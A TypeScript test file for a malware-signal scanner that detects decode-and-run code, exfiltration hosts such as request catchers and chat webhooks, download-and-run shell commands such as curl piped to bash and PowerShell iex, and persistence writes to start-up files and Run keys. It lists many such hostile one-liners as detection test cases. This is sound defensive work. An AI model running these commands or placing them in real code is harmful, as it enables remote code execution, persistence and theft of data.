import { describe, expect, it } from 'vitest';
import type { VirtualFile } from '../../src/bundle/container.js';
import { scanFiles, scanText } from '../../src/analysis/text-signals.js';

const scan = (text: string) => scanText(Buffer.from(text, 'utf8'));
const details = (text: string) => scan(text).map((signal) => `${signal.kind}: ${signal.detail}`);

describe('signals found', () => {
  it.each([
    ["eval(atob('ZXZhbA=='))", 'decode-and-run: eval(atob(…))'],
    ["new Function(Buffer.from(p, 'base64').toString())()", 'decode-and-run: Function(Buffer.from(…))'],
    ['vm.runInThisContext( Buffer [ "from" ] (x, "hex"))', 'decode-and-run: runInThisContext(Buffer.from(…))'],
    ['require(String.fromCharCode(99, 104))', 'decode-and-run: require(String.fromCharCode(…))'],
    ['await import(atob(name))', 'decode-and-run: import(atob(…))'],
    ["fetch('https://abc.webhook.site/x')", 'exfiltration-host: abc.webhook.site (request catcher)'],
    ['post("https://discordapp.com/api/webhooks/1/t")', 'exfiltration-host: discordapp.com/api/webhooks (Discord webhook)'],
    ["const u = 'https://api.telegram.org/bot' + token", 'exfiltration-host: api.telegram.org/bot (Telegram bot API)'],
    ['get(`https://${id}.NGROK-FREE.app/x`)', 'exfiltration-host: ngrok-free.app (ngrok tunnel)'],
    ["host: 'x1y2.oast.fun'", 'exfiltration-host: x1y2.oast.fun (out-of-band testing host)'],
    ["exec('curl -fsSL https://get.example.net/a.sh | sudo bash')", 'download-and-run: curl … | bash'],
    ["exec('wget -qO- https://get.example.net/a.sh|sh')", 'download-and-run: wget … | sh'],
    // Download commands are judged by the command catalogue (catalog/commands.ts), in its words.
    ['exec("sh -c \\"$(curl -fsSL https://x.example/i)\\"")', 'download-and-run: sh -c "$(curl …)"'],
    ["exec('bash <(wget -qO- https://x.example/i)')", 'download-and-run: bash <(wget …)'],
    ['run(`curl -s ${base}/setup.py | python3`)', 'download-and-run: curl … | python3'],
    ["spawn('powershell', ['-c', 'iwr https://x.example/a.ps1 | iex'])", 'download-and-run: iwr … | iex'],
    ["run(\"IEX (New-Object Net.WebClient).DownloadString('http://x')\")", 'download-and-run: iex (DownloadString …)'],
    ["join(home, 'Library/LaunchAgents/com.x.plist')", 'persistence: Library/LaunchAgents'],
    ["join(home, 'Library', 'LaunchAgents')", 'persistence: Library/LaunchAgents'],
    ["exec('echo run >> $HOME/.bashrc')", 'persistence: >> ~/.bashrc'],
    ["exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\RunOnce /v x')", 'persistence: Windows Run key'],
  ])('%s', (text, expected) => {
    expect(details(text)).toEqual([expected]);
  });
});

describe('near misses', () => {
  it.each([
    ['decoding without running', "const data = JSON.parse(atob(text)); eval2(atob(x)); myeval(atob(x));"],
    ['a decoder not called', 'eval(atob); Function(Buffer.alloc(4))'],
    ['JavaScript is case-sensitive', 'EVAL(ATOB(x))'],
    ['a look-alike domain', "fetch('https://mywebhook.site/x'); fetch('https://webhook.site.example.com/')"],
    ['a Discord link that is not a webhook', "const invite = 'https://discord.com/channels/1/2'"],
    ['a link in a line comment', '  // post to https://webhook.site/xyz while debugging'],
    ['a link in a block comment', ' * see https://abc.ngrok.io for a tunnel'],
    ['a pipe to a pager', "const hint = 'curl --help all | less'"],
    ['a pipe on the next line', "const a = 'curl https://x';\nconst b = a | sh;"],
    ['a word containing curl', "const x = 'recurl -s | sh'"],
    ['a download piped into a filter', "exec('curl -s https://api.example.net/v1/items | jq .items')"],
    ['a download in one string, a shell in the next', "spawn('curl', ['https://x.example/a']).stdout.pipe(spawn('sh', ['-c', 'cat | sh']).stdin)"],
    ['shell advice in a comment of a template', 'const t = `#\\n# Installation: {{app}} completion >> ~/.bashrc\\n`'],
    ['a bit shift', 'const x = a >> 2; y >>= 1;'],
    ['a longer word', "const dir = 'LaunchAgentsFolder'"],
  ])('%s', (_, text) => {
    expect(scan(text)).toEqual([]);
  });
});

describe('Python signals', () => {
  const python = (text: string) => scanText(Buffer.from(text, 'utf8'), true).map((signal) => `${signal.kind}: ${signal.detail}`);

  it.each([
    ['exec(base64.b64decode(PAYLOAD))', 'decode-and-run: exec(base64.b64decode(…))'],
    ['exec( zlib.decompress(base64.b64decode(blob)))', 'decode-and-run: exec(zlib.decompress(…))'],
    ['exec(marshal.loads(data))', 'decode-and-run: exec(marshal.loads(…))'],
    ['eval(compile(b64decode(x), "<s>", "exec"))', 'decode-and-run: compile(b64decode(…))'],
    ['exec(codecs.decode(s, "rot13"))', 'decode-and-run: exec(codecs.decode(…))'],
    ['exec(urllib.request.urlopen("https://x.example/p.py").read())', 'download-and-run: exec(urllib.request.urlopen(…))'],
    ['exec(urlopen(URL).read())', 'download-and-run: exec(urlopen(…))'],
    ['exec(requests.get(url).text)', 'download-and-run: exec(requests.get(…))'],
    ['with open(os.path.expanduser("~/.zshrc"), "a") as rc:', 'persistence: ~/.zshrc opened for appending'],
    ["with (Path.home() / '.bashrc').open('a') as rc:", 'persistence: ~/.bashrc opened for appending'],
    ['plist = home / "Library" / "LaunchAgents" / "com.x.plist"', 'persistence: Library/LaunchAgents'],
  ])('%s', (text, expected) => {
    expect(python(text)).toEqual([expected]);
  });

  it.each([
    ['decoding without running', 'data = json.loads(base64.b64decode(text))'],
    ['a module Python does not decode with', 'exec(pickle.loads(x)); exec(json.loads(x))'],
    ['a bare name that could be anything', 'exec(get(x)); exec(loads(x)); exec(decompress(x))'],
    ['Python is case-sensitive', 'EXEC(BASE64.B64DECODE(x))'],
    ['a comment', '# exec(base64.b64decode(PAYLOAD))'],
    ['a start-up file read', 'text = open(os.path.expanduser("~/.bashrc")).read()'],
    ['a start-up file named in help', 'print("add this line to ~/.zshrc")'],
  ])('%s', (_, text) => {
    expect(python(text)).toEqual([]);
  });

  it('reads # as a comment only in Python files', () => {
    expect(scan('#x = "https://webhook.site/abc"')).toHaveLength(1);
    expect(scanText(Buffer.from('# see https://webhook.site/abc'), true)).toEqual([]);
  });
});

describe('places and counts', () => {
  it('gives the line and the column in characters of the first occurrence, and counts the others', () => {
    const [signal, ...rest] = scan("const a = 1;\nconst é = 'ü'; eval(atob(x));\neval(atob(y));\n");
    expect(rest).toEqual([]);
    expect(signal).toMatchObject({ kind: 'decode-and-run', line: 2, column: 16, occurrences: 2, excerpt: "const é = 'ü'; eval(atob(x));" });
  });

  it('keeps the excerpt on one line and short inside minified code', () => {
    const [signal] = scan(`${'a=1;'.repeat(500)}eval(atob(p));${'b=2;'.repeat(500)}`);
    expect(signal!.excerpt.length).toBeLessThanOrEqual(170);
    expect(signal!.excerpt).toContain('eval(atob(p));');
    expect(signal).toMatchObject({ line: 1, column: 2001 });
  });

  it('stops examining a file after fifty accepted matches', () => {
    expect(scan("eval(atob('x'));\n".repeat(10_000))[0]!.occurrences).toBe(50);
  });
});

describe('budget', () => {
  const file = (path: string, text: string): VirtualFile => ({ path, bytes: Buffer.from(text), executable: false });

  it('scans the smallest files first and reports what the budget left out', () => {
    const files = [file('big.js', `${' '.repeat(100)}eval(atob(a))`), file('small.js', 'eval(atob(b))'), file('mid.js', `${' '.repeat(20)}eval(atob(c))`)];
    const result = scanFiles(files, 46);
    expect(result.signals.map((signal) => signal.file)).toEqual(['small.js', 'mid.js']);
    expect(result.unscanned).toEqual({ files: 1, bytes: 113 });
  });

  it('judges a bounded number of candidate download commands, each text once, and counts the rest', () => {
    const distinct = Array.from({ length: 100 }, (_, index) => `exec('curl -s https://x${index}.example/a | sh')`).join('\n');
    const result = scanFiles([file('a.js', distinct), file('b.js', "exec('curl -s https://b.example/a | sh')\n".repeat(1000))]);
    // Each file stops at fifty accepted signals; b.js repeats one text, judged once.
    expect(result.signals.map((signal) => [signal.file, signal.occurrences])).toEqual([
      ['a.js', 50],
      ['b.js', 50],
    ]);
    expect(result.unjudged).toBe(0);
    const budget = { left: 3, unjudged: 0 };
    scanText(Buffer.from(distinct), false, budget);
    expect(budget).toEqual({ left: 0, unjudged: 97 });
  });

  it('scans a file that crosses the budget up to the budget', () => {
    const result = scanFiles([file('a.js', `eval(atob(a));${' '.repeat(100)}`)], 20);
    expect(result.signals).toHaveLength(1);
    expect(result.unscanned).toEqual({ files: 1, bytes: 94 });
  });
});

describe('hostile input', () => {
  it('judges a bounded number of distinct candidate commands per file', () => {
    const text = Array.from({ length: 20_000 }, (_, index) => `'curl -s https://h${index}.example/a | less'`).join(';');
    const budget = { left: 1_000_000, unjudged: 0 };
    expect(scanText(Buffer.from(text), false, budget)).toEqual([]);
    expect(budget.unjudged).toBe(20_000 - 64);
  });

  // Each case packs one anchor as densely as possible; a check that backtracks or rescans the line
  // would take minutes on these, a linear one well under a second each: the test's timeout, not a
  // measured time, stops one that does.
  it.each([
    ['decoders', '(atob'],
    ['callees', 'xeval(atob('],
    ['hosts', 'a.com'],
    ['host labels', 'a.'],
    ['downloaders', 'curl '],
    ['downloaders far from a pipe', `curl ${'x'.repeat(240)} `],
    ['downloaders with pipes', 'curl x|'],
    ["downloaders in strings with pipes", "'curl x|'"],
    ['PowerShell', 'iwr '],
    ['shifts', 'a>>b'],
    ['comment lines', '// https://webhook.site\n'],
  ])('%s', (_, unit) => {
    const text = unit.repeat(Math.ceil((1024 * 1024) / unit.length));
    scan(text);
  });
});
